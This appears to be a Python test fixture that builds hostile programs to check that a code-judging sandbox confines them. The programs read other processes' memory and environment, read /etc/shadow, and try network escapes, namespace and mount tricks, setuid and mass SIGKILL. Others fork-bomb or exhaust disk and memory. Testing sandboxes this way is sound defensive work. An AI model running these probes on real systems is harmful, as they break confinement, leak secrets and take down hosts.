"""Servers that attack whoever judges them. Each prints JSON with what it reached, in pieces, and ends."""

BEGIN = """
import ctypes, errno, json, os, signal, socket, subprocess, sys, time
got = {}
def attempt(name, fn):
    try:
        got[name] = fn()
    except BaseException as error:
        got[name] = errno.errorcode.get(getattr(error, "errno", None), type(error).__name__)
libc = ctypes.CDLL(None, use_errno=True)
def call(*words):
    if libc.syscall(*words) < 0:
        raise OSError(ctypes.get_errno(), "refused")
    return "done"
others = [int(name) for name in os.listdir("/proc") if name.isdecimal() and int(name) != os.getpid()]
def of_others(fn):
    found = {}
    for pid in others:
        try:
            found[str(pid)] = fn(pid)
        except OSError as error:
            found[str(pid)] = errno.errorcode[error.errno]
    return sorted(set(map(str, found.values())))
"""
END = """
text = json.dumps(got)
for at in range(0, len(text), 240):
    print("PIECE" + text[at : at + 240] + ".")
sys.exit(1)
"""


def attack(body: str) -> str:
    return f"{BEGIN}{body}{END}"


READS = """
attempt("count", lambda: len(others))
attempt("memory", lambda: of_others(lambda pid: open(f"/proc/{pid}/mem", "rb").read(1)))
attempt("environ", lambda: of_others(lambda pid: open(f"/proc/{pid}/environ", "rb").read(1)))
attempt("files", lambda: of_others(lambda pid: os.listdir(f"/proc/{pid}/fd")))
attempt("opened", lambda: of_others(lambda pid: [open(f"/proc/{pid}/fd/{n}", "ab") for n in range(12)]))
attempt("root", lambda: of_others(lambda pid: os.listdir(f"/proc/{pid}/root/judge")))
attempt("cwd", lambda: of_others(lambda pid: os.readlink(f"/proc/{pid}/cwd")))
attempt("maps", lambda: of_others(lambda pid: open(f"/proc/{pid}/maps").read(1)))
attempt("trace", lambda: call(101, 16, others[-1], 0, 0))
local = ctypes.create_string_buffer(8)
attempt("peek", lambda: call(310, others[-1], local, 1, local, 1, 0))
attempt("judge", lambda: os.listdir("/judge"))
attempt("policy", lambda: open("/judge/confine.json").read())
attempt("words", lambda: "KEPT" + "SECRET" in " ".join(open(f"/proc/{pid}/cmdline").read() for pid in others))
attempt("home", lambda: os.listdir("/home"))
attempt("shadow", lambda: open("/etc/shadow").read())
attempt("hostname", socket.gethostname)
attempt("variables", lambda: [name for name in os.environ if name not in ("PATH", "HOME", "LANG", "TZ", "TMPDIR")])
"""

LEAVES = """
def connect(address):
    with socket.create_connection(address, 2):
        return "connected"
attempt("host", lambda: connect(("127.0.0.1", HOST_PORT)))
attempt("outside", lambda: connect(("10.255.255.1", 80)))
attempt("name", lambda: socket.getaddrinfo("example.org", 80))
attempt("devices", lambda: sorted(name for _, name in socket.if_nameindex()))
def abstract():
    with socket.socket(socket.AF_UNIX) as one:
        one.connect("HOST_SOCKET")
attempt("abstract", abstract)
attempt("namespace", lambda: call(272, 0x10000000))
attempt("network", lambda: call(272, 0x40000000))
attempt("mount", lambda: call(165, b"none", b"/tmp", b"tmpfs", 0, 0))
attempt("chroot", lambda: os.chroot("/tmp"))
attempt("user", lambda: os.setuid(0))
attempt("memfd", lambda: os.memfd_create("x"))
attempt("uring", lambda: call(425, 8, 0))
for place in ("/usr/x", "/etc/x", "/x", "/judge/x", "/root/x", "/dev/x", "/proc/sys/kernel/hostname", "PYTHON/x"):
    attempt(place, lambda: open(place, "w").write("x"))
attempt("own", lambda: open("/tmp/app/x", "w").write("x"))
attempt("run own", lambda: (open("/tmp/app/run", "w").write("#!/bin/sh\\nexit 7\\n"), os.chmod("/tmp/app/run", 0o755),
                            subprocess.run(["/tmp/app/run"]).returncode)[-1])
"""

KILLS = """
attempt("parent", lambda: os.kill(os.getppid(), signal.SIGKILL))
attempt("init", lambda: os.kill(1, signal.SIGKILL))
attempt("each", lambda: of_others(lambda pid: os.kill(pid, signal.SIGKILL)))
attempt("all", lambda: os.kill(-1, signal.SIGKILL))
attempt("stop", lambda: of_others(lambda pid: os.kill(pid, signal.SIGSTOP)))
attempt("limits", lambda: of_others(lambda pid: __import__("resource").prlimit(pid, 7, (0, 0))))
"""

FORKS = """
import threading
made = 0
try:
    for _ in range(5000):
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
        made += 1
except OSError as error:
    got["error"] = errno.errorcode[error.errno]
got["made"] = made
"""

DISK = """
written = 0
attempt("file", lambda: os.truncate(os.open("/tmp/one", os.O_CREAT | os.O_RDWR), 1 << 40))
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
try:
    for number in range(10_000):
        with open(f"/tmp/fill-{number}", "wb") as file:
            written += file.write(b"x" * (1 << 20))
except OSError as error:
    got["error"] = errno.errorcode[error.errno]
got["MiB"] = written >> 20
for folder in ("/dev/shm", "/var/tmp", "/run"):
    attempt(folder, lambda: open(f"{folder}/x", "wb").write(b"x" * (1 << 20)))
"""

MEMORY = """
held = []
try:
    while True:
        held.append(bytearray(16 << 20))
except MemoryError:
    got["MiB"] = len(held) * 16
"""

MEMORY_OF_MANY = """
for _ in range(20):
    if os.fork() == 0:
        held = bytearray(100 << 20)
        time.sleep(60)
        os._exit(0)
time.sleep(60)
"""

SHARED_MEMORY = """
import mmap
held = mmap.mmap(-1, 4 << 30)
for at in range(0, 4 << 30, 4096):
    held[at] = 1
time.sleep(60)
"""

LEAVES_OTHERS = """
for _ in range(3):
    subprocess.Popen(["/bin/sh", "-c", "setsid sleep 600 & setsid sleep 600 & exit 0"], env={}, start_new_session=True)
"""
